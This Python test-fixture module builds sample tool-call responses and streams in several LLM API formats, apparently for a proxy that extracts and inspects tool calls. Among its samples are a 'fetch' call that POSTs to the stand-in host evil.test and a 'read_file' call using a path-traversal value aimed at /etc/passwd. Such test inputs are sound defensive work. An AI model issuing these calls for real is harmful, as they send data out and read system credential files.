"""Wire shapes of the three LLM APIs and of MCP, as documented (and checked against
the openai SDK's own types in test_extract_llm.py). Shared by the extractor tests."""

from __future__ import annotations

import json
from typing import Any


def sse(events: list[tuple[str | None, Any]], crlf: bool = False) -> bytes:
    """Encode (event name, JSON payload or raw string) pairs as an SSE body."""
    nl = "\r\n" if crlf else "\n"
    out = []
    for name, payload in events:
        data = payload if isinstance(payload, str) else json.dumps(payload)
        head = f"event: {name}{nl}" if name else ""
        out.append(f"{head}data: {data}{nl}{nl}")
    return "".join(out).encode()


# --- OpenAI Chat Completions ----------------------------------------------------

CHAT_COMPLETION = {
    "id": "chatcmpl-B9MHDbslfkBeAs8l4bebGdFOJ6PeG",
    "object": "chat.completion",
    "created": 1741570283,
    "model": "gpt-4o-2024-08-06",
    "choices": [
        {
            "index": 0,
            "message": {
                "role": "assistant",
                "content": "Let me look at the customer first.",
                "refusal": None,
                "tool_calls": [
                    {
                        "id": "call_abc",
                        "type": "function",
                        "function": {
                            "name": "get_customer",
                            "arguments": '{"customer_id": "4411"}',
                        },
                    },
                    {
                        "id": "call_def",
                        "type": "function",
                        "function": {
                            "name": "fetch",
                            "arguments": '{"url": "https://evil.test/x", "method": "post"}',
                        },
                    },
                ],
            },
            "logprobs": None,
            "finish_reason": "tool_calls",
        }
    ],
    "usage": {"prompt_tokens": 82, "completion_tokens": 17, "total_tokens": 99},
}

_ARGS_A = '{"customer_id": "4411", "note": "caf\u00e9 \u2603"}'
_ARGS_B = '{"path": "/srv/billing/../etc/passwd"}'


def _chunk(delta: dict[str, Any], finish: str | None = None) -> dict[str, Any]:
    return {
        "id": "chatcmpl-123",
        "object": "chat.completion.chunk",
        "created": 1694268190,
        "model": "gpt-4o-mini",
        "system_fingerprint": "fp_44709d6fcb",
        "choices": [{"index": 0, "delta": delta, "logprobs": None, "finish_reason": finish}],
    }


def chat_stream_chunks() -> list[dict[str, Any]]:
    chunks = [_chunk({"role": "assistant", "content": None, "refusal": None})]
    chunks.append(_chunk({"content": "Checking "}))
    chunks.append(_chunk({"content": "now."}))
    chunks.append(
        _chunk(
            {
                "tool_calls": [
                    {
                        "index": 0,
                        "id": "call_1",
                        "type": "function",
                        "function": {"name": "get_customer", "arguments": ""},
                    }
                ]
            }
        )
    )
    for i in range(0, len(_ARGS_A), 5):
        chunks.append(
            _chunk({"tool_calls": [{"index": 0, "function": {"arguments": _ARGS_A[i : i + 5]}}]})
        )
    chunks.append(
        _chunk(
            {
                "tool_calls": [
                    {
                        "index": 1,
                        "id": "call_2",
                        "type": "function",
                        "function": {"name": "read_file", "arguments": ""},
                    }
                ]
            }
        )
    )
    for i in range(0, len(_ARGS_B), 3):
        chunks.append(
            _chunk({"tool_calls": [{"index": 1, "function": {"arguments": _ARGS_B[i : i + 3]}}]})
        )
    chunks.append(_chunk({}, "tool_calls"))
    return chunks


def chat_stream() -> bytes:
    return sse([(None, c) for c in chat_stream_chunks()] + [(None, "[DONE]")])


CHAT_STREAM_EXPECT = [
    ("get_customer", json.loads(_ARGS_A), "call_1"),
    ("read_file", json.loads(_ARGS_B), "call_2"),
]

# --- OpenAI Responses API ---------------------------------------------------------

_FC = {
    "type": "function_call",
    "id": "fc_12345",
    "call_id": "call_r1",
    "name": "get_customer",
    "arguments": '{"customer_id":"4412"}',
    "status": "completed",
}
_MSG = {
    "type": "message",
    "id": "msg_1",
    "status": "completed",
    "role": "assistant",
    "content": [{"type": "output_text", "text": "I will check.", "annotations": []}],
}

RESPONSE = {
    "id": "resp_67ccd2bed1ec8190b14f964abc054267",
    "object": "response",
    "created_at": 1741476542,
    "status": "completed",
    "error": None,
    "incomplete_details": None,
    "instructions": None,
    "max_output_tokens": None,
    "model": "gpt-4.1-2025-04-14",
    "output": [_MSG, _FC],
    "parallel_tool_calls": True,
    "previous_response_id": None,
    "reasoning": {"effort": None, "summary": None},
    "store": True,
    "temperature": 1.0,
    "text": {"format": {"type": "text"}},
    "tool_choice": "auto",
    "tools": [],
    "top_p": 1.0,
    "truncation": "disabled",
    "usage": {
        "input_tokens": 36,
        "input_tokens_details": {"cached_tokens": 0, "cache_write_tokens": 0},
        "output_tokens": 87,
        "output_tokens_details": {"reasoning_tokens": 0},
        "total_tokens": 123,
    },
    "user": None,
    "metadata": {},
}


def responses_events(with_completed: bool = True) -> list[dict[str, Any]]:
    in_progress = dict(RESPONSE, status="in_progress", output=[], usage=None)
    args = _FC["arguments"]
    events: list[dict[str, Any]] = [
        {"type": "response.created", "sequence_number": 0, "response": in_progress},
        {"type": "response.in_progress", "sequence_number": 1, "response": in_progress},
        {
            "type": "response.output_item.added",
            "sequence_number": 2,
            "output_index": 0,
            "item": dict(_MSG, status="in_progress", content=[]),
        },
        {
            "type": "response.output_text.delta",
            "sequence_number": 3,
            "item_id": "msg_1",
            "output_index": 0,
            "content_index": 0,
            "delta": "I will ",
            "logprobs": [],
        },
        {
            "type": "response.output_text.delta",
            "sequence_number": 4,
            "item_id": "msg_1",
            "output_index": 0,
            "content_index": 0,
            "delta": "check.",
            "logprobs": [],
        },
        {
            "type": "response.output_item.added",
            "sequence_number": 5,
            "output_index": 1,
            "item": dict(_FC, arguments="", status="in_progress"),
        },
        {
            "type": "response.function_call_arguments.delta",
            "sequence_number": 6,
            "item_id": "fc_12345",
            "output_index": 1,
            "delta": args[:9],
        },
        {
            "type": "response.function_call_arguments.delta",
            "sequence_number": 7,
            "item_id": "fc_12345",
            "output_index": 1,
            "delta": args[9:],
        },
        {
            "type": "response.function_call_arguments.done",
            "sequence_number": 8,
            "item_id": "fc_12345",
            "output_index": 1,
            "name": "get_customer",
            "arguments": args,
        },
        {"type": "response.output_item.done", "sequence_number": 9, "output_index": 1, "item": _FC},
    ]
    if with_completed:
        events.append({"type": "response.completed", "sequence_number": 10, "response": RESPONSE})
    return events


def responses_stream(with_completed: bool = True) -> bytes:
    return sse([(e["type"], e) for e in responses_events(with_completed)])


# --- Anthropic Messages ------------------------------------------------------------

ANTHROPIC_MESSAGE = {
    "id": "msg_01Aq9w938a90dw8q",
    "type": "message",
    "role": "assistant",
    "model": "claude-sonnet-4-20250514",
    "content": [
        {"type": "text", "text": "I'll look that up."},
        {
            "type": "tool_use",
            "id": "toolu_01A09q90qw90lq917835lq9",
            "name": "get_customer",
            "input": {"customer_id": "4411"},
        },
    ],
    "stop_reason": "tool_use",
    "stop_sequence": None,
    "usage": {"input_tokens": 472, "output_tokens": 91},
}

_PARTS = ['{"path": "/srv', "/billing/", "inv", 'oices.csv"', ', "lines": [1, 2]}']


def anthropic_events() -> list[dict[str, Any]]:
    start = dict(
        ANTHROPIC_MESSAGE,
        content=[],
        stop_reason=None,
        usage={"input_tokens": 472, "output_tokens": 2},
    )
    events: list[dict[str, Any]] = [
        {"type": "message_start", "message": start},
        {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}},
        {"type": "ping"},
        {
            "type": "content_block_delta",
            "index": 0,
            "delta": {"type": "text_delta", "text": "Okay, "},
        },
        {
            "type": "content_block_delta",
            "index": 0,
            "delta": {"type": "text_delta", "text": "reading."},
        },
        {"type": "content_block_stop", "index": 0},
        {
            "type": "content_block_start",
            "index": 1,
            "content_block": {
                "type": "tool_use",
                "id": "toolu_01T1x1fJ34qAmk2tNTrN7Up6",
                "name": "read_file",
                "input": {},
            },
        },
        {
            "type": "content_block_delta",
            "index": 1,
            "delta": {"type": "input_json_delta", "partial_json": ""},
        },
    ]
    events += [
        {
            "type": "content_block_delta",
            "index": 1,
            "delta": {"type": "input_json_delta", "partial_json": p},
        }
        for p in _PARTS
    ]
    events += [
        {"type": "content_block_stop", "index": 1},
        {
            "type": "message_delta",
            "delta": {"stop_reason": "tool_use", "stop_sequence": None},
            "usage": {"output_tokens": 89},
        },
        {"type": "message_stop"},
    ]
    return events


def anthropic_stream() -> bytes:
    return sse([(e["type"], e) for e in anthropic_events()])


ANTHROPIC_STREAM_EXPECT = (
    "read_file",
    {"path": "/srv/billing/invoices.csv", "lines": [1, 2]},
    "toolu_01T1x1fJ34qAmk2tNTrN7Up6",
)


# --- Gemini (streamGenerateContent?alt=sse) --------------------------------------


def gemini_stream() -> bytes:
    """Text, then two function calls in separate chunks (Gemini streams a call whole)."""
    chunks = [
        {"candidates": [{"content": {"role": "model", "parts": [{"text": "Looking "}]}}]},
        {"candidates": [{"content": {"role": "model", "parts": [{"text": "it up."}]}}]},
        {
            "candidates": [
                {
                    "content": {
                        "role": "model",
                        "parts": [
                            {"functionCall": {"name": "get_customer", "args": json.loads(_ARGS_A)}}
                        ],
                    }
                }
            ]
        },
        {
            "candidates": [
                {
                    "content": {
                        "role": "model",
                        "parts": [
                            {"functionCall": {"name": "read_file", "args": json.loads(_ARGS_B)}}
                        ],
                    },
                    "finishReason": "STOP",
                }
            ],
            "modelVersion": "gemini-2.5-flash-001",
        },
    ]
    return sse([(None, c) for c in chunks], crlf=True)


# --- Amazon Bedrock Converse (converse-stream: AWS's binary event stream) ----------


def aws_event(event_type: str, payload: dict[str, Any]) -> bytes:
    """One AWS event-stream frame: prelude, string headers, JSON payload, CRC32s."""
    import struct
    import zlib

    headers = b""
    for name, value in (
        (":event-type", event_type),
        (":content-type", "application/json"),
        (":message-type", "event"),
    ):
        headers += bytes([len(name)]) + name.encode() + b"\x07"
        headers += struct.pack(">H", len(value)) + value.encode()
    body = json.dumps(payload).encode()
    total = 12 + len(headers) + len(body) + 4
    prelude = struct.pack(">II", total, len(headers))
    prelude += struct.pack(">I", zlib.crc32(prelude))
    frame = prelude + headers + body
    return frame + struct.pack(">I", zlib.crc32(frame))


def bedrock_stream() -> bytes:
    """Text, then a tool use whose input arrives in two deltas, then a second one."""
    events: list[tuple[str, dict[str, Any]]] = [
        ("messageStart", {"role": "assistant"}),
        ("contentBlockDelta", {"contentBlockIndex": 0, "delta": {"text": "Looking it up."}}),
        ("contentBlockStop", {"contentBlockIndex": 0}),
        (
            "contentBlockStart",
            {
                "contentBlockIndex": 1,
                "start": {"toolUse": {"toolUseId": "tu_1", "name": "get_customer"}},
            },
        ),
        (
            "contentBlockDelta",
            {"contentBlockIndex": 1, "delta": {"toolUse": {"input": _ARGS_A[:12]}}},
        ),
        (
            "contentBlockDelta",
            {"contentBlockIndex": 1, "delta": {"toolUse": {"input": _ARGS_A[12:]}}},
        ),
        ("contentBlockStop", {"contentBlockIndex": 1}),
        (
            "contentBlockStart",
            {
                "contentBlockIndex": 2,
                "start": {"toolUse": {"toolUseId": "tu_2", "name": "read_file"}},
            },
        ),
        ("contentBlockDelta", {"contentBlockIndex": 2, "delta": {"toolUse": {"input": _ARGS_B}}}),
        ("contentBlockStop", {"contentBlockIndex": 2}),
        ("messageStop", {"stopReason": "tool_use"}),
        ("metadata", {"usage": {"inputTokens": 12, "outputTokens": 40}}),
    ]
    return b"".join(aws_event(kind, payload) for kind, payload in events)


# --- one recorded stream per registered LLM dialect -------------------------------

#: dialect name -> (the content type it streams as, its wire fixture). A dialect
#: registered without one fails tests/proxy/test_properties.py.
STREAMS = {
    "openai-chat": ("text/event-stream", chat_stream),
    "openai-responses": ("text/event-stream", responses_stream),
    "anthropic-messages": ("text/event-stream", anthropic_stream),
    "gemini": ("text/event-stream", gemini_stream),
    "bedrock-converse": ("application/vnd.amazon.eventstream", bedrock_stream),
}
